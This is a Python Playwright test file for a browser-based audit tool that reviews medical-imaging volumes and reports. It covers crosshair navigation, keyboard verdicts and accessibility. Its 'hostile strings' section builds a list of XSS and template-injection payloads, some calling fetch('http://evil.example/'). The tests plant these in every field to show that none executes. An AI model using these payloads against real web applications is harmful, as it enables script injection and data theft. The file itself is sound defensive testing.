"""The audit in a real browser: headless Chromium through Playwright."""

import json
from urllib.parse import quote

import nibabel as nib
import numpy as np
import pytest

from curation.audit.static import write_static
from curation.audit.viewer import viewer_script
from curation.contract import TABLES, Dataset
from t3dkit.progress import Progress
from t3dkit.tables import write_table

TOKEN = "browser-test-token"
PAGES = (
    "/",
    "/sheet",
    "/distributions",
    "/sample",
    "/agreement",
    "/drops",
    "/drops?reason=TOO_FEW_SLICES",
    "/case/pair-1",
)

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]


def open_case(page, address, pair_id="pair-1"):
    """Open a case and wait until its viewer is the one that the test asks for."""
    page.goto(f"{address}/?token={TOKEN}")
    page.goto(f"{address}/case/{pair_id}")
    page.locator("body[data-crosshair]").wait_for()
    viewer = getattr(page, "viewer", None)
    if viewer == "niivue":
        page.locator("body[data-viewer=niivue]").wait_for(timeout=60_000)
    elif viewer == "slices":
        page.locator("#viewer-state", has_text="no WebGL").wait_for()


def crosshair(page):
    """The voxel under the viewer's crosshair: NiiVue's own where NiiVue shows the volume."""
    own = page.evaluate("import('/assets/viewer.js').then((viewer) => viewer.crosshair())")
    assert (own is not None) == (page.viewer == "niivue")
    shown = [int(value) for value in page.get_attribute("body", "data-crosshair").split(",")]
    assert own in (None, shown)
    return shown


def test_a_sentence_click_moves_the_crosshair_into_its_box(viewer_page, address):
    page = viewer_page
    open_case(page, address)
    for n, start in enumerate(((2, 3, 4), (2, 3, 5))):
        page.click(f"[data-sentence] >> nth={n}")
        assert all(low <= at < low + size for at, low, size in zip(crosshair(page), start, (8, 9, 10), strict=True))
        assert page.locator("svg.plane rect.box").count() in (3, 6)  # the effusion is absent on both sides
        assert page.locator("[data-sentence].chosen").count() == 1
    assert page.troubles == []


def test_all_regions_of_the_report_are_drawn_with_their_names_and_no_others(page, address, root):
    open_case(page, address)
    page.click("[data-sentence] >> nth=0")
    page.keyboard.press("b")
    named = {
        region.replace("_", " ") for row in Dataset.open(root).rows("sentences") for region in row["regions"] or ()
    }
    shown = page.locator("svg.plane text.name").all_text_contents()
    assert shown
    assert set(shown) <= named
    assert len(shown) == page.locator("svg.plane rect.box").count()
    assert page.troubles == []


def test_a_click_in_a_slice_moves_the_crosshair_there_in_both_viewers(viewer_page, address):
    """Where the box is drawn is where its voxels are: a click on a corner of the box answers with that corner."""
    page = viewer_page
    open_case(page, address)
    page.click("[data-sentence] >> nth=0")
    for plane, axes in (("axial", (0, 1)), ("coronal", (0, 2)), ("sagittal", (1, 2))):
        page.click("[data-sentence] >> nth=0")
        box = page.locator(f"svg.plane[data-plane={plane}] rect.box").bounding_box()
        per_voxel = [box["width"] / (8, 9, 10)[axes[0]], box["height"] / (8, 9, 10)[axes[1]]]
        page.mouse.click(box["x"] + per_voxel[0] * 1.5, box["y"] + per_voxel[1] * 2.5)
        expected = [(9, 11, 13)[axes[0]] - 1, (9, 11, 13)[axes[1]] - 2]  # from the box's left and top, backwards
        assert [crosshair(page)[axis] for axis in axes] == expected, plane
        page.locator("#here-list", has_text="spleen").wait_for()
    assert page.troubles == []


def test_the_wheel_scrolls_and_the_window_changes_in_both_viewers(viewer_page, address):
    page = viewer_page
    open_case(page, address)
    before = crosshair(page)
    frame = page.locator("svg.plane[data-plane=axial]").bounding_box()
    page.mouse.move(frame["x"] + frame["width"] / 2, frame["y"] + frame["height"] / 2)
    page.mouse.wheel(0, -100)
    page.wait_for_timeout(200)
    after = crosshair(page)
    assert abs(after[2] - before[2]) == 1
    assert after[:2] == before[:2]
    page.keyboard.press("2")
    assert page.get_attribute("button.window >> nth=1", "aria-pressed") == "true"
    page.mouse.click(frame["x"] + frame["width"] / 2, frame["y"] + frame["height"] / 2)
    place = crosshair(page)
    page.keyboard.press("k")  # ours, not NiiVue's, though its canvas has the focus
    page.keyboard.press("ArrowUp")
    assert crosshair(page) != place
    assert page.troubles == []


def test_from_the_worklist_to_a_verdict_with_the_keyboard_alone(page, address, root):
    page.goto(f"{address}/?token={TOKEN}")
    page.goto(f"{address}/case/pair-0")
    page.keyboard.press("j")
    page.keyboard.press("r")
    page.locator("#current", has_text="reject").wait_for()
    assert Dataset.open(root).verdicts == {"pair-0": "reject"}
    page.keyboard.press("u")
    page.locator("#current", has_text="none yet").wait_for()
    page.keyboard.press("n")
    page.wait_for_url("**/case/pair-1")


def test_a_click_in_the_volume_lists_its_sentences_and_one_of_them_leads_back(viewer_page, address):
    page = viewer_page
    open_case(page, address)
    page.click("[data-sentence] >> nth=0")
    assert "spleen" in page.inner_text("#here-list")
    assert page.locator("[data-sentence].here").count() >= 1
    box = page.locator("svg.plane[data-plane=axial] rect.box").bounding_box()
    page.mouse.click(box["x"] - box["width"] / 3, box["y"] + box["height"] / 2)  # beside the box
    page.locator("#here-list", has_text="no sentence").wait_for()
    page.click("[data-sentence] >> nth=0")
    page.click("#here-list button >> nth=0")
    assert crosshair(page) == [6, 7, 9]


def test_the_crops_of_training_are_shown_for_the_chosen_sentence(page, address):
    page.goto(f"{address}/?token={TOKEN}")
    page.goto(f"{address}/case/pair-1")
    page.keyboard.press("c")
    page.locator("#crop-list img").first.wait_for(timeout=60_000)
    assert page.locator("#crop-list img").count() == 4  # two draws of two views
    page.wait_for_function("[...document.querySelectorAll('#crop-list img')].every((one) => one.naturalWidth > 0)")
    assert "spleen" in page.inner_text("#crop-list")
    page.click("[data-sentence] >> nth=1")
    assert "pleura" in page.inner_text("#crop-list")
    assert serious(page) == []
    assert page.troubles == []


def with_large_volume(root, shape=(512, 512, 600)):
    """The second volume is a large one: a hole on the disk, noise in the slices that are shown first."""
    affine = np.diag([0.7, 0.7, 1.0, 1.0])
    header = nib.Nifti1Image(np.zeros((2, 2, 2), np.int16), affine).header.copy()
    header.set_data_shape(shape)
    header.set_sform(affine, code=1)
    header["vox_offset"], header["magic"], header["scl_slope"], header["scl_inter"] = 352, b"n+1", 1, 0
    noise = np.random.default_rng(0).integers(-1000, 500, (shape[1], shape[0]), dtype=np.int16)
    with open(root / "volumes/large.nii", "wb") as file:
        file.write(header.binaryblock + b"\0\0\0\0")
        file.truncate(352 + 2 * int(np.prod(shape)))
        for k in range(0, shape[2], 4):
            file.seek(352 + 2 * shape[0] * shape[1] * k)
            file.write(noise.tobytes())
    rows = Dataset.open(root).rows("volumes")
    rows[1] |= {"path": "volumes/large.nii", "shape_ijk": list(shape), "spacing_mm": [0.7, 0.7, 1.0],
                "affine_ras": affine.ravel().tolist()}  # fmt: skip
    write_table(root / "volumes.parquet", rows, TABLES["volumes"])


PAINTED = """async () => {
  const pictures = () => performance.getEntriesByType("resource").filter((one) => one.name.includes("/slice/"));
  while (pictures().length < 3 || pictures().some((one) => !one.responseEnd)) await new Promise((go) => setTimeout(go));
  await new Promise((go) => requestAnimationFrame(() => requestAnimationFrame(go)));
  return performance.now() / 1000;
}"""
"""Seconds from asking for the page until its three slices are there and a frame with them was drawn."""


def test_the_first_slices_of_a_large_volume_are_painted_within_two_seconds(page, root, address):
    with_large_volume(root)
    page.goto(f"{address}/?token={TOKEN}")
    seconds = []
    for _ in range(3):  # the machine is shared: the best of three counts
        page.goto(f"{address}/case/pair-1")
        seconds.append(page.evaluate(PAINTED))
    assert min(seconds) < 2.0, seconds
    assert "NiiVue" in page.inner_text("#viewer-state")
    assert page.get_attribute("body", "data-viewer") == "slices"  # 157 million voxels are loaded only when asked for
    if viewer_script():
        assert page.locator("#load").is_visible()
    assert page.troubles == []


def with_pointer(root, *, series):
    """The second report's second sentence points at image 40; images 1 to 90 lie 1 mm apart from above down."""
    data = Dataset.open(root)
    sentences, volumes = data.rows("sentences"), data.rows("volumes")
    for row in sentences:
        if row["sentence_id"] == "sentence-1-1":
            row |= {"image_pointer": {"series": series, "image": 40}, "regions": ["brain"]}
    for row in volumes:
        row["slice_map"] = {"series_number": 3, "instance_number": list(range(1, 91)),
                            "position_mm": [90.0 - n for n in range(1, 91)], "normal_lps": [0.0, 0.0, 1.0]}  # fmt: skip
    write_table(root / "sentences.parquet", sentences, TABLES["sentences"])
    write_table(root / "volumes.parquet", volumes, TABLES["volumes"])


def test_an_image_that_the_report_names_is_shown(page, root, address):
    with_pointer(root, series=3)
    page.goto(f"{address}/?token={TOKEN}")
    page.goto(f"{address}/case/pair-1")
    page.click("[data-sentence] >> nth=1")
    assert page.get_attribute("body", "data-crosshair").split(",")[2] == "17"  # 50 mm of 3 mm voxels
    page.keyboard.press("i")
    page.keyboard.type("3/84")
    page.keyboard.press("Enter")
    assert page.get_attribute("body", "data-crosshair").split(",")[2] == "2"
    assert "series 3 image 84" in page.inner_text("#place")
    for asked, said in (("4/10", "series 4 is not the one shown"), ("3/200", "no image 200")):
        page.fill("#jump", asked)
        page.keyboard.press("Enter")
        page.locator("#place", has_text=said).wait_for()
    assert page.troubles == []


def test_five_keys_at_most_from_the_page_to_a_verdict(page, address, root):
    page.goto(f"{address}/?token={TOKEN}")
    page.goto(f"{address}/case/pair-1")
    keys = ["j", "j", "w"]
    for key in keys:
        page.keyboard.press(key)
    page.locator("#current", has_text="wrong report").wait_for()
    assert len(keys) <= 5
    assert Dataset.open(root).verdicts == {"pair-1": "wrong_report"}


def test_keys_typed_into_a_field_decide_nothing(page, address, root):
    page.goto(f"{address}/?token={TOKEN}")
    page.goto(f"{address}/case/pair-1")
    page.keyboard.press("t")
    page.keyboard.type("arwgeu")
    page.fill("#jump", "a")
    page.wait_for_timeout(200)
    assert Dataset.open(root).verdicts == {}
    assert page.input_value("#note") == "arwgeu"


def test_two_readers_see_each_other_only_after_their_own_verdict(page, address):
    page.goto(f"{address}/?token={TOKEN}")
    for reader, key in (("ann", "r"), ("bob", "a")):
        page.goto(f"{address}/case/pair-1")
        page.fill("#reader", reader)
        with page.expect_navigation():
            page.press("#reader", "Tab")
        assert page.inner_text("#current") == "none yet"
        page.keyboard.press(key)
        page.locator("#current", has_text={"r": "reject", "a": "accept"}[key]).wait_for()
    page.goto(f"{address}/agreement")
    assert "ann reject, bob accept" in page.inner_text("main")
    assert page.troubles == []


def test_a_bar_leads_to_its_cases(page, address):
    page.goto(f"{address}/?token={TOKEN}")
    page.goto(f"{address}/distributions")
    page.click("text=NOTHING_LOCATED")
    assert page.locator("table.worklist tbody tr").count() == 1
    page.click("text=pair-0")
    page.wait_for_url("**/case/pair-0?flag=NOTHING_LOCATED")


def test_a_drop_is_judged_from_the_sample(page, address):
    page.goto(f"{address}/?token={TOKEN}")
    page.goto(f"{address}/sample")
    page.click("button.judge >> nth=1")
    page.locator(".judged", has_text="wrongly dropped").wait_for()
    page.reload()
    assert "wrongly dropped" in page.inner_text(".judged")


# hostile strings

CODE = "window.pwned=1;fetch('http://evil.example/')"
EVIL = "//evil.example/"
TAGS = (
    f"<script>{CODE}</script>",
    f'<img src=x onerror="{CODE}">',
    f'<svg onload="{CODE}">',
    f"<body onload={CODE}>",
    f"<iframe srcdoc='<script>{CODE}</script>'>",
    f'<a href="javascript:{CODE}">x</a>',
    f"<base href={EVIL}>",
    f"<link rel=stylesheet href={EVIL}x.css>",
    f"<details open ontoggle={CODE}>",
    f"<video src=x onerror={CODE}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<img src={EVIL}x.png>",
    f"<object data={EVIL}>",
    f"<embed src={EVIL}>",
    f"<input autofocus onfocus={CODE}>",
    f"<style>@import '{EVIL}x.css';</style>",
    f"<form action={EVIL}><button>x",
    f"<math><mi xlink:href='data:x,{CODE}'>",
    f"javascript:{CODE}",
    f"data:text/html,<script>{CODE}</script>",
    f"{{{{ {CODE} }}}}",
    f"{{% {CODE} %}}",
    f"${{{CODE}}}",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    f"--><script>{CODE}</script>",
    f"]]><script>{CODE}</script>",
)
WRAPS = ("{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "</script>{}", "</style>{}", "\u202e{}\u202c", "\ufffd{}")
HOSTILE = [wrap.format(tag) for wrap in WRAPS for tag in TAGS]


def make_hostile(root):
    """Every hostile string in every field that a report, a scanner or a person can fill."""
    data = Dataset.open(root)
    texts = "\n".join(HOSTILE)
    volumes, pairs, series = data.rows("volumes"), data.rows("pairs"), data.rows("series")
    reports, sentences = data.rows("reports"), data.rows("sentences")
    reports[1]["text"] = texts
    reports[1]["language"] = HOSTILE[5]
    kept = [row for row in sentences if row["report_id"] != "report-1"]
    start = 0
    for n, text in enumerate(HOSTILE):
        kept.append(
            {
                "sentence_id": f"s{n}", "report_id": "report-1", "pair_id": "pair-1", "section": text, "index": n,
                "char_start": start, "char_end": start + len(text), "text": text, "regions": [text], "assertion": text,
                "is_normal": False, "is_prior_comparison": False, "measurements_mm": [],
            }
        )  # fmt: skip
        start += len(text) + 1
    volumes[1] |= {
        "vendor": HOSTILE[0], "kernel": HOSTILE[1], "contrast": HOSTILE[2], "body_regions": HOSTILE,
        "repairs": [{"code": text, "detail": text} for text in HOSTILE],
    }  # fmt: skip
    pairs[1] |= {"flags": HOSTILE, "link_rule": HOSTILE[3], "split": HOSTILE[4]}
    series[1] |= {"geometry": texts, "rank_reasons": HOSTILE, "reason": HOSTILE[6]}
    dropped = [{"stage": text, "kind": "study", "item_id": text, "reason": text, "detail": text} for text in HOSTILE]
    suspicions = [{"pair_id": "pair-1", "code": text, "severity": "alarm", "detail": text} for text in HOSTILE]
    for name, rows in {
        "volumes": volumes, "pairs": pairs, "series": series, "reports": reports, "sentences": kept,
        "dropped": dropped, "suspicions": suspicions,
    }.items():  # fmt: skip
        write_table(root / f"{name}.parquet", rows, TABLES[name])
    manifest = root / "dataset.json"
    manifest.write_text(manifest.read_text().replace('"small"', json.dumps(HOSTILE[9])), encoding="utf-8")


@pytest.fixture
def hostile(root):
    make_hostile(root)
    return root


def test_hostile_strings_run_nothing_and_reach_nobody(page, hostile, address):
    assert len(HOSTILE) >= 200
    page.goto(f"{address}/?token={TOKEN}")
    for path in (*PAGES, f"/?words={quote(HOSTILE[1])}&flag={quote(HOSTILE[0])}", f"/drops?reason={quote(HOSTILE[2])}"):
        page.goto(f"{address}{path}")
        page.wait_for_timeout(150)
        assert page.evaluate("window.pwned") is None, path
    page.goto(f"{address}/case/pair-1")
    shown = page.inner_text(".text")
    assert all(" ".join(text.split()) in " ".join(shown.split()) for text in HOSTILE if "\u202e" not in text)
    for text in HOSTILE[:30]:
        page.fill("#note", text)
        page.click("button.decide >> nth=1")
        page.wait_for_timeout(20)
    page.reload()
    assert page.evaluate("window.pwned") is None
    assert (
        page.locator("main script, main iframe, main object, main embed, main base, main meta").count() <= 1
    )  # our own
    assert [url for url in page.asked if not url.startswith((address, "data:"))] == []
    assert page.troubles == []


def test_hostile_strings_stay_inert_in_the_static_page(page, hostile, tmp_path):
    file = tmp_path / "audit.html"
    write_static(hostile, file, progress=Progress(quiet=True))
    page.goto(f"file://{file}")
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    assert [url for url in page.asked if not url.startswith((f"file://{file}", "data:"))] == []
    assert page.troubles == []


# accessibility


def serious(page):
    """Findings of axe-core that are serious or critical."""
    from axe_playwright_python.sync_playwright import Axe

    found = Axe().run(page).response["violations"]
    return [(one["id"], one["nodes"][0]["html"][:120]) for one in found if one["impact"] in ("serious", "critical")]


def test_the_accessibility_check_finds_what_is_wrong(page):
    page.set_content("<html><body><img src='data:,x'><button></button></body></html>")
    assert {rule for rule, _ in serious(page)} >= {"image-alt", "button-name"}
    page.troubles.clear()


def test_the_pages_have_no_serious_accessibility_findings(page, address):
    page.goto(f"{address}/?token={TOKEN}")
    for path in PAGES:
        page.goto(f"{address}{path}")
        assert serious(page) == [], path


def test_the_static_page_has_no_serious_accessibility_findings(page, root, tmp_path):
    file = tmp_path / "audit.html"
    write_static(root, file, progress=Progress(quiet=True))
    page.goto(f"file://{file}")
    assert serious(page) == []


def test_the_static_page_opens_from_disk(page, root, tmp_path):
    file = tmp_path / "audit.html"
    write_static(root, file, progress=Progress(quiet=True))
    page.context.set_offline(True)
    page.goto(f"file://{file}")
    assert page.inner_text("h1") == "Audit of small"
    assert [url for url in page.asked if not url.startswith(("file://", "data:"))] == []
    assert page.troubles == []
